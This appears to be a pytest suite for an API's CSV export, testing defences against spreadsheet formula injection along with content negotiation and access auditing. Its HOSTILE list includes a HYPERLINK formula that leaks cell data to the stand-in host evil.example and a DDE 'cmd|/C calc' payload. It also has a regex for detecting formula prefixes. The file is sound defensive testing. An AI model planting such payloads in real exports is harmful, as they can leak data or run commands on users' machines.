"""Lists as CSV: what a spreadsheet reads is what JSON tells, and nothing in it is a formula."""

import csv
import io
import json
import re

import httpx
import pytest
from hypothesis import given
from hypothesis import strategies as st

from api.tables import as_csv, columns_of, defused
from tests.api.posting import assert_problem, new_customer, post
from tests.api.stories import opened, visits
from tests.facts import cloudevent
from tests.sites import Site

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Canary1")',
    "+SUM(1,1)*cmd|' /C calc'!A0",
    "-2+3+Canary2",
    "@SUM(1+1)",
    "\t=1+1",
    "\r\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹦1+1",
    "−1+1",
    " \u200b\ufeff=1+1",
]
HARMLESS = ["-5", "+8613800138000", "1.5e-3", "王小明", "a=b", "", "a, -b", "'quoted'", "(=1)"]
FORMULA = re.compile(r"[\s\u200b\ufeff]*[=+\-@＝＋－＠﹦−]|[\t\r\n]")


def rows(answer: httpx.Response) -> list[dict[str, str]]:
    """Read an answer as a spreadsheet does."""
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert int(answer.headers["content-length"]) == len(answer.content)
    read = list(csv.DictReader(io.StringIO(answer.content.decode(), newline=""), strict=True))
    assert not [cell for row in read for cell in row.values() if FORMULA.match(cell)]
    return read


def as_table(client: httpx.Client, address: str) -> httpx.Response:
    """Ask for a list as CSV."""
    return client.get(address, headers={"Accept": "text/csv"})


class TestCells:
    @pytest.mark.parametrize("text", HOSTILE)
    def test_no_formula(self, text: str) -> None:
        """Whatever a formula may begin with stands behind an apostrophe, and is else as it was."""
        assert defused(text) == f"'{text}"

    @pytest.mark.parametrize("text", HARMLESS)
    def test_nothing_else_is_changed(self, text: str) -> None:
        """Numbers, and text that is no formula, stay as they are."""
        assert defused(text) == text

    @given(text=st.text(st.sampled_from("=+-@＝\t\r\n \u200b,\"';1e.a王"), max_size=6))
    def test_any_text(self, text: str) -> None:
        """Any text comes back, and is a formula only where it is a plain number."""
        written = as_csv(("a", "b"), json.dumps({"a": text, "b": None}).encode() + b"\n")
        ((_, _), (cell, empty)) = csv.reader(io.StringIO(written.decode(), newline=""), strict=True)

        assert cell.removeprefix("'") == text.removeprefix("'")
        assert empty == ""
        assert not FORMULA.match(cell) or float(cell) is not None

    def test_values_of_every_kind(self) -> None:
        """Numbers and truths as JSON writes them, what is nested as JSON, what is absent as nothing."""
        row = {"a": -1.5, "b": True, "c": ["=1"], "e": {"x": "y"}, "f": "=2"}
        written = as_csv(("a", "b", "c", "d", "attributes"), json.dumps(row).encode())

        assert written.decode().split("\r\n") == [
            "a,b,c,d,attributes",
            '-1.5,true,"[""=1""]",,"{""e"":{""x"":""y""},""f"":""=2""}"',
            "",
        ]


@pytest.fixture(scope="module")
def customer(site: Site, channel: httpx.Client) -> str:
    """Give a customer whose profile, notes and attributes are full of formulas."""
    who = new_customer()
    for text in HOSTILE:
        told = {"name": text.strip(), "segment": "mass"}
        posted = post(channel, {**cloudevent("customer.registered", told, subject=who), "teller": "=1+1"})
        assert posted.status_code == 201, posted.text
    opened(channel, who)
    visits(channel, who, "12:00:00")
    site.caught_up()
    return who


class TestLists:
    def test_a_journey(self, analyst: httpx.Client, customer: str) -> None:
        """Row for row what JSON tells; the next page is in the header; the name of the file names nobody."""
        address = f"/v1/customers/{customer}/timeline?limit=4"
        answer = as_table(analyst, address)
        told = analyst.get(address).json()
        found = rows(answer)

        assert [row["title"] for row in found] == [item["title"] for item in told["items"]]
        assert [json.loads(row["data"]) for row in found] == [item["data"] for item in told["items"]]
        assert json.loads(found[0]["data"])["name"] == HOSTILE[0]
        assert answer.links["next"]["url"] == told["next"]
        assert rows(as_table(analyst, told["next"]))[0]["version"] == "5"
        assert answer.headers["content-disposition"] == 'attachment; filename="timeline.csv"'
        assert "journey-position" in answer.headers

    def test_the_log(self, analyst: httpx.Client, channel: httpx.Client, customer: str) -> None:
        """Ids and attributes that channels made up are defused too, and none is lost."""
        sent = {**cloudevent(subject=customer), "id": f"=cmd|{customer}", "teller": "=1+1"}
        position = post(channel, sent).json()["position"]
        (row,) = rows(as_table(analyst, f"/v1/events?after={position - 1}&limit=1"))

        assert row["id"] == f"'=cmd|{customer}"
        assert json.loads(row["attributes"])["teller"] == "=1+1"

    def test_work_lists_and_readings(self, site: Site, analyst: httpx.Client, customer: str) -> None:
        """Applications, and who read personal data: with the columns that are described, on every page."""
        staff = site.client("privacy:manage")
        for client, address, name in (
            (analyst, f"/v1/applications?customer={customer}", "Applications"),
            (staff, f"/v1/customers/{customer}/reads", "Reads"),
            (staff, "/v1/reads?limit=1", "Reads"),
            (analyst, "/v1/event-types", "EventTypes"),
            (analyst, "/v1/processes", "Processes"),
        ):
            found = rows(as_table(client, address))
            told = client.get(address).json()["items"]
            assert len(found) == len(told) > 0
            assert all(tuple(row) == columns_of(name) for row in found)
            assert all(set(item) <= set(columns_of(name)) for item in told)

    def test_what_is_opened_is_recorded(self, site: Site, customer: str) -> None:
        """Whose data is told as CSV is recorded as read, like any other answer."""
        reader = site.client("journeys:read")
        purpose = f"csv-{customer}"
        reader.get(
            f"/v1/customers/{customer}/timeline", headers={"Accept": "text/csv", "Journey-Purpose": purpose}
        )
        (told, *_) = site.client("privacy:manage").get(f"/v1/customers/{customer}/reads").json()["items"]

        assert (told["purpose"], told["fields"]) == (purpose, ["customer.registered.name"])

    def test_sealed_to_who_may_not_read(self, site: Site, customer: str) -> None:
        """What is sealed in JSON is sealed in CSV."""
        auditor = site.client("ops:admin")
        assert_problem(as_table(auditor, f"/v1/customers/{customer}/timeline"), "insufficient-scope")


class TestAccept:
    @pytest.mark.parametrize(
        ("accept", "given"),
        [
            ("text/csv", "text/csv; charset=utf-8"),
            ("text/*;q=0.9, */*;q=0.1", "text/csv; charset=utf-8"),
            ("application/json;q=0.8, text/csv;q=0.9", "text/csv; charset=utf-8"),
            ("application/json, text/csv", "application/json"),
            ("text/csv;q=0, */*", "application/json"),
            ("text/csv;q=0.2, application/x-ndjson;q=0.3", "application/x-ndjson"),
            ("text/csv;q=nan, */*;q=0.1", "application/json"),
            ("", "application/json"),
        ],
    )
    def test_the_best_wins(self, analyst: httpx.Client, accept: str, given: str) -> None:
        """Weights are respected, of equals JSON wins, and who says nothing gets JSON."""
        answer = analyst.get("/v1/applications", headers={"Accept": accept})

        assert answer.headers["content-type"] == given

    def test_several_lines_are_one(self, analyst: httpx.Client) -> None:
        """A header that is sent twice counts as one."""
        headers = [("Accept", "image/png"), ("Accept", "text/csv")]
        request = analyst.build_request("GET", "/v1/applications", headers=headers)

        assert analyst.send(request).headers["content-type"] == "text/csv; charset=utf-8"


def test_customers_have_the_same_columns() -> None:
    """Of what customers are not told the cells are empty."""
    told = {"kind": "read", "at": "2026-01-01T00:00:00Z", "by": "staff"}
    written = as_csv(columns_of("Reads"), json.dumps(told).encode()).decode()
    (row,) = csv.DictReader(io.StringIO(written, newline=""))

    assert (row["by"], row["caller"]) == ("staff", "")
